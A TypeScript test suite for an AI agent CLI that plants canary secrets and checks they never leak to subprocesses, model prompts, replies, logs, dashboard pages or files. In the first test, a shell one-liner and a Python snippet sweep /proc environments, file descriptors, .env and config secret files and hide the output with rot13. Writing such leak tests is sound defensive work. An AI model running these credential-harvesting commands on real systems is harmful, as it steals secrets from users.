import { type ChildProcess, spawn } from 'node:child_process'
import { cpSync, openSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join, resolve } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { secretForms } from '../../src/kernel/secret-forms.ts'
import { CLAW, type ClawPlace, type ClawRun, clawPlace, collect } from '../helpers/claw-place.ts'
import { freePort } from '../helpers/free-port.ts'
import { type ScriptedOpenAi, startScriptedOpenAi } from '../helpers/scripted-openai.ts'
import { watchProcesses } from '../helpers/watch-processes.ts'
import { call } from './hostile-place.ts'

/** One canary for each place that a secret may be in. */
const CANARIES = {
  model_key: 'canary-model-key-4b1f09',
  tool_token: 'canary-tool-token-77ac2e',
  foreign_environment: 'canary-environment-c0ffee',
  descriptor: 'canary-descriptor-9d21aa',
  pipe: 'canary-pipe-31e8bb',
  dot_env: 'canary-dot-env-5a5a17',
  config: 'canary-config-note-e2d4',
} as const
const ALL = Object.values(CANARIES)
const FORMS = ALL.flatMap((value) => [...secretForms(value), rot13(value)])
/** What is planted: nothing else may hold a canary afterwards. */
const PLANTED = ['home/.config/closed-claw/note.txt', 'home/.config/closed-claw/secrets.json', 'descriptor.txt', 'work/.env']

let place: ClawPlace
let api: Server
let model: ScriptedOpenAi
let port = 0
const reached: { authorization: string; url: string }[] = []
const shown: string[] = []
const env: Record<string, string> = {}

beforeAll(async () => {
  place = clawPlace({ 'notes.md': 'plain notes\n', '.env': `OTHER_PASSWORD=${CANARIES.dot_env}\n` })
  await place.run(['init'])
  const spy = resolve(import.meta.dirname, '../fixtures/capsules/spy')
  cpSync(spy, join(place.workspace, '.closed_claw', 'agents', 'spy'), { recursive: true })
  api = createServer((request, response) => {
    const authorization = String(request.headers['authorization'])
    reached.push({ authorization, url: String(request.url) })
    const status = request.url?.startsWith('/fail') ? 401 : 200
    const answer = { said: `${authorization} at ${request.url}`, basic: Buffer.from(`me:${authorization}`).toString('base64') }
    setTimeout(
      () => response.writeHead(status, { 'content-type': 'application/json', 'x-said': authorization }).end(JSON.stringify(answer)),
      200,
    )
  })
  await new Promise<void>((done) => api.listen(0, '127.0.0.1', done))
  port = (api.address() as AddressInfo).port
  writeFileSync(
    join(place.configDir, 'policy.json'),
    JSON.stringify({ version: 1, rules: [{ id: 'own-server', decision: 'allow', hosts: [`127.0.0.1:${port}`] }] }),
  )
  writeFileSync(join(place.configDir, 'note.txt'), CANARIES.config)
  writeFileSync(join(place.root, 'descriptor.txt'), CANARIES.descriptor)
  await place.run(['secret', 'set', 'OPENAI_API_KEY'], { input: CANARIES.model_key })
  await place.run(['secret', 'set', 'API_TOKEN', '--host', `127.0.0.1:${port}`], { input: CANARIES.tool_token })
  model = await startScriptedOpenAi(
    [
      { when: { turn: 0 }, reply: { tool_calls: [request('/ok'), request('/fail')] } },
      { when: { turn: 1 }, reply: { text: `I saw {{last}} and ${CANARIES.tool_token} and ${CANARIES.model_key}` } },
    ],
    { apiKey: CANARIES.model_key },
  )
  Object.assign(env, place.env, {
    OPENAI_BASE_URL: model.url,
    CLOSED_CLAW_RULES_FIRST: 'off',
    DATABASE_PASSWORD: CANARIES.foreign_environment,
    CLOSED_CLAW_POLICY: 'trusted',
  })
})
afterAll(async () => {
  api.close()
  await model.close()
  place.remove()
})

function request(path: string) {
  const authorization = `Bearer \${secret:API_TOKEN}`
  return {
    name: 'http_api',
    args: { url: `http://127.0.0.1:${port}${path}`, headers: { authorization }, params: { key: `\${secret:API_TOKEN}` } },
  }
}

function rot13(text: string): string {
  return text.replace(/[a-z]/gi, (char) => String.fromCharCode(char.charCodeAt(0) + (char.toLowerCase() < 'n' ? 13 : -13)))
}

/** claw with a file behind descriptor 7 and a pipe behind 8, both open in it as a careless shell would leave them. */
function start(args: readonly string[]): ChildProcess {
  const child = spawn(process.execPath, [CLAW, ...args], {
    cwd: place.workspace,
    env,
    stdio: ['pipe', 'pipe', 'pipe', 'ignore', 'ignore', 'ignore', 'ignore', openSync(join(place.root, 'descriptor.txt'), 'r'), 'pipe'],
  })
  const pipe = (child.stdio as readonly unknown[])[8] as NodeJS.WritableStream
  pipe.on('error', () => undefined)
  pipe.write(CANARIES.pipe)
  return child
}

async function watched(
  args: readonly string[],
  input = '',
): Promise<{ ran: ClawRun; places: ReadonlyMap<string, string>; processes: number }> {
  const child = start(args)
  const watch = watchProcesses(child.pid ?? 0)
  const ran = await collect(child, input)
  shown.push(ran.stdout, ran.stderr)
  return { ran, places: watch.stop(), processes: watch.processes.size }
}

function holders(texts: Iterable<readonly [string, string]>): string[] {
  return [...texts].filter(([, text]) => FORMS.some((form) => text.includes(form))).map(([name]) => name)
}

describe('seven canaries', () => {
  test('are in no process that claw starts, and a capsule and a command that look for them find none', { timeout: 120_000 }, async () => {
    const look = `(env; for p in /proc/[0-9]*; do cat $p/environ $p/cmdline; ls -l $p/fd; for f in $p/fd/*; do [ "\${f##*/}" -gt 2 ] && timeout 1 head -c 9999 "$f"; done; done; cat .env ~/.config/closed-claw/* /root/.config/closed-claw/* ${place.root}/home/.config/closed-claw/* ${place.root}/*.txt; sleep 1) 2>&1 | tr 'A-Za-z' 'N-ZA-Mn-za-m' | tail -c 60000`
    const messages = [
      { ...call('http_api', request('/ok').args) },
      { ...call('http_api', request('/fail').args) },
      { ...call('http_api', { ...request('/ok').args, method: 'POST', json: { deep: [`\${secret:API_TOKEN}`] } }) },
      { ...call('http_api', { url: 'https://example.com/', headers: request('/ok').args.headers }) },
      { ...call('http_api', { url: `http://127.0.0.1:${port}/`, headers: { a: `\${secret:OPENAI_API_KEY}` } }) },
      { ...call('http_api', { url: `http://127.0.0.1:${port}/`, headers: { a: `\${secret:DATABASE_PASSWORD}` } }) },
      { ...call('terminal', { cmd: `echo \${secret:API_TOKEN}` }) },
      { ...call('terminal', { cmd: look, timeout_s: 30 }) },
      {
        ...call('python_exec', {
          code: `import codecs, glob\nfor p in glob.glob('/proc/*/environ') + glob.glob('/proc/*/cmdline'):\n  try: print(codecs.encode(open(p).read(), 'rot13'))\n  except OSError: pass`,
        }),
      },
      { ...call('file_io', { op: 'read', path: '.env' }) },
      { ...call('file_io', { op: 'read', path: join(place.configDir, 'secrets.json') }) },
    ]
    const context = join(place.root, 'context.json')
    writeFileSync(context, JSON.stringify({ do: messages }))
    const { ran, places, processes } = await watched(['run', 'spy', '--agent', 'spy', '--context-json', context, '--json', '--no-input'])
    expect(ran.stderr + ran.stdout.slice(0, 500)).toContain('"ok":true')
    expect(processes).toBeGreaterThan(3)
    expect(holders(places)).toEqual([])
    const replies = (JSON.parse(ran.stdout).result as string[]).map(rot13)
    expect(replies).toHaveLength(messages.length + 2)
    expect(replies[0]).toContain('PATH')
    expect(replies.slice(2, 5).every((reply) => reply.includes('[redacted]'))).toBe(true)
    expect(replies.slice(5, 8).map((reply) => /SECRET_\w+/.exec(reply)?.[0])).toEqual([
      'SECRET_REFUSED',
      'SECRET_REFUSED',
      'SECRET_UNKNOWN',
    ])
    expect(replies[8]).toContain('SECRET_REFUSED')
    // The command looked around, and gave what it saw in a disguise of its own.
    expect(rot13(replies[9] ?? '')).toContain('PATH=')
    expect(holders(replies.map((reply, i) => [`reply ${i}`, reply]))).toEqual([])
    expect(holders(replies.map((reply, i) => [`disguised reply ${i}`, rot13(reply)]))).toEqual([])
  })

  test('reach a model in no prompt, and come back in no answer', { timeout: 120_000 }, async () => {
    const before = reached.length
    const task = `Call the server; the token is ${CANARIES.tool_token} and the key ${CANARIES.model_key}`
    const { ran, places } = await watched(['run', '-', '--agent', 'web-researcher', '--json', '--no-input'], task)
    expect(JSON.parse(ran.stdout).error).toBeNull()
    expect(JSON.parse(ran.stdout).result).toContain('[redacted]')
    expect(reached.length).toBe(before + 2)
    expect(model.requests.length).toBeGreaterThan(1)
    expect(holders(model.requests.map((one) => [`request ${one.n}`, JSON.stringify(one.body)]))).toEqual([])
    expect(model.requests.every((one) => one.headers['authorization'] === `Bearer ${CANARIES.model_key}`)).toBe(true)
    expect(holders(places)).toEqual([])
  })

  test('are told by no command, no page and no stream', { timeout: 180_000 }, async () => {
    const runs = JSON.parse((await place.run(['runs', '--json'], { env })).stdout).result as { run_id: string }[]
    const commands = [
      ['secret', 'list'],
      ['secret', 'list', '--json'],
      ['secret', 'audit'],
      ['doctor', '--json', '--settings'],
      ['runs', '--json'],
      ['tools', '--json'],
      ['agents', '--json'],
      ['approvals', '--json'],
      ['audit', '--json', '--limit', '500'],
      ['audit', 'export'],
      ['audit', 'export', '--format', 'csv'],
      ['audit', 'verify'],
      ['policy'],
      ['grants'],
      ['secret', 'set', 'API_TOKEN', CANARIES.tool_token],
      ['run', 'spy', '--agent', 'nobody', '--debug'],
      ...runs.flatMap(({ run_id }) => [
        ['watch', run_id],
        ['runlog', run_id, '--tail', '9999'],
        ['watch', run_id, '-o', 'jsonl'],
      ]),
    ]
    for (const args of commands) {
      const ran = await place.run(args, { env })
      shown.push(ran.stdout, ran.stderr)
      expect(holders([[`${args.slice(0, 3).join(' ')}`, ran.stdout + ran.stderr]])).toEqual([])
    }
    expect(runs.length).toBeGreaterThan(1)
    const pages = await allPages(runs.map(({ run_id }) => run_id))
    expect(pages.length).toBeGreaterThan(8)
    expect(holders(pages)).toEqual([])
    expect(pages.map(([, text]) => text).join('')).toContain('tool.finished')
    expect(holders([['shown', shown.join('\n')]])).toEqual([])
  })

  test('are in no file but those that they were planted in', async () => {
    const files = readdirSync(place.root, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile())
    const found = holders(
      files.map((entry) => [
        join(entry.parentPath, entry.name).slice(place.root.length + 1),
        readFileSync(join(entry.parentPath, entry.name), 'latin1'),
      ]),
    )
    expect(found.sort()).toEqual([...PLANTED].sort())
    const audit = await place.run(['secret', 'audit', '--json'], { env })
    expect(JSON.parse(audit.stdout)).toMatchObject({ ok: true, exit_code: 0, result: { exposed: [] } })
    expect(JSON.parse(audit.stdout).result.uses.length).toBe(5)
  })

  test('reached their one host, and only in the header and the query that named them', () => {
    expect(reached).toHaveLength(5)
    for (const one of reached) {
      expect(one.authorization).toBe(`Bearer ${CANARIES.tool_token}`)
      expect(new URL(one.url, 'http://x').searchParams.get('key')).toBe(CANARIES.tool_token)
    }
  })
})

/** Every answer of the dashboard that has something of a run in it, the event streams included. */
async function allPages(run_ids: readonly string[]): Promise<[string, string][]> {
  const webPort = await freePort()
  const child = start(['web', '--port', String(webPort)])
  try {
    const signIn = await new Promise<string>((done, reject) => {
      let text = ''
      child.stderr?.on('data', (data: Buffer) => {
        text += data.toString()
        const match = /(http:\/\/127\.0\.0\.1:\d+\/sign-in\?code=\S+)/.exec(text)
        if (match) done(match[1] ?? '')
      })
      child.once('exit', () => reject(new Error(text)))
    })
    const cookie = (await fetch(signIn, { redirect: 'manual' })).headers.get('set-cookie')?.split(';')[0] ?? ''
    const paths = [
      '/',
      '/api/runs',
      '/api/status',
      '/api/agents',
      '/api/approvals',
      '/api/audit',
      '/api/audit/export',
      '/api/grants',
      ...run_ids.flatMap((id) => [`/api/runs/${id}`, `/api/runs/${id}/events`]),
    ]
    return await Promise.all(
      paths.map(async (path): Promise<[string, string]> => [path, await read(`http://127.0.0.1:${webPort}${path}`, cookie)]),
    )
  } finally {
    child.kill('SIGKILL')
  }
}

/** A stream does not end by itself. */
async function read(url: string, cookie: string): Promise<string> {
  const answer = await fetch(url, { headers: { cookie }, signal: AbortSignal.timeout(2000) })
  let text = ''
  try {
    for await (const piece of answer.body ?? []) text += Buffer.from(piece).toString('latin1')
  } catch {
    return text
  }
  return text
}
